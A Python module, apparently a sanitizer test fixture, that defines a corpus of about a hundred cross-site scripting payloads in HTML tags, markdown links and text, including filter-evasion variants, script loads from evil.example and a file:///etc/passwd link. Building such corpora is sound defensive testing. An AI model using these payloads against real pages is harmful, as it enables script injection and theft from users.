"""A hundred notes that would run a script in a page that trusted them."""

from __future__ import annotations

_RUN = "window.hacked=1"
_TAGS = (
    f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<body onload={_RUN}>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<iframe src=javascript:parent.{_RUN}>", f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>", f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>", f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>", f"<link rel=stylesheet href=javascript:{_RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>", f"<base href=javascript:{_RUN}//>",
    f"<form action=javascript:{_RUN}><button autofocus>x</button></form>",
    f"<math><mtext></p><script>{_RUN}</script></mtext></math>", f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN} id=go>x</a>", f"<div style=background:url(javascript:{_RUN})>x</div>",
    f"<style>@import 'javascript:{_RUN}';</style>", f"<template><script>{_RUN}</script></template>",
    f"</textarea><script>{_RUN}</script>", f"</pre></code><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f"</details></li></ol><script>{_RUN}</script>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<<script>{_RUN}//<</script>", f"<script/src=data:,{_RUN}>",
    f"<img/src=x/onerror={_RUN}>", f"<img src=`x`onerror={_RUN}>", f"<img src='x' onerror='{_RUN}'>",
    f"<svg/onload={_RUN}//", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributename=x>", f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<keygen autofocus onfocus={_RUN}>", f"<x onclick={_RUN} tabindex=1 id=go>x</x>",
    f"<button popovertarget=y onclick={_RUN}>x</button>", f"<script type=module>{_RUN}</script>",
    f"<script src=https://evil.example/x.js></script>", "<link rel=import href=https://evil.example/x>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script&#62;{_RUN}&#60;/script&#62;",
)  # fmt: skip
_LINKS = (
    f"[x](javascript:{_RUN})", f"[x](JaVaScRiPt:{_RUN})", f"[x](java\tscript:{_RUN})",
    f"[x]( javascript:{_RUN})", f"[x](javascript&colon;{_RUN})", f"[x](&#106;avascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](vbscript:{_RUN})", "[x](file:///etc/passwd)", f"<javascript:{_RUN}>", f"<JAVASCRIPT:{_RUN}>",
    f"![x](javascript:{_RUN})", f"![x](x' onerror='{_RUN})", f'[x](https://e.example "onmouseover={_RUN}")',
    f"[x](https://e.example' onclick='{_RUN})", f"[x](<javascript:{_RUN}>)", f"[a]: javascript:{_RUN}\n\n[a]",
    f"[[x|<img src=x onerror={_RUN}>]]", f"[[<script>{_RUN}</script>]]", f"[[\" onmouseover={_RUN} x=\"]]",
    f"[[review-size|\"><script>{_RUN}</script>]]", f"[x](\"><script>{_RUN}</script>.md)",
    f"[x](review-size.md' onclick='{_RUN})", f"[{_RUN}](//evil.example/x)", "[x](//evil.example)",
    "[x](/undo)", "[x](../../undo)", f"[x](\x01javascript:{_RUN})", f"[x](https:javascript:{_RUN})",
)  # fmt: skip
_TEXT = (
    f"`<script>{_RUN}</script>`", f"```html\n<script>{_RUN}</script>\n```", f"    <script>{_RUN}</script>",
    f"# <img src=x onerror={_RUN}>", f"> <svg onload={_RUN}>", f"- <svg onload={_RUN}>",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |", f"**<script>{_RUN}</script>**", f"~~<svg onload={_RUN}>~~",
    f"{{{{ ''.__class__ }}}} {{% raw %}} <script>{_RUN}</script>", f"\u202e<script>{_RUN}</script>",
    f"\u200b<\u200bscript>{_RUN}</script>", f"<!-- --!><script>{_RUN}</script>", f"<![CDATA[<script>{_RUN}</script>",
    f"<?xml ?><script>{_RUN}</script>", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-", f"\\<script>{_RUN}</script>",
    f"<script>\n{_RUN}\n</script>\n\nx", f"<div>\n<script>{_RUN}</script>\n</div>", f"\ufeff<script>{_RUN}</script>",
)  # fmt: skip
CORPUS = (*_TAGS, *_LINKS, *_TEXT)
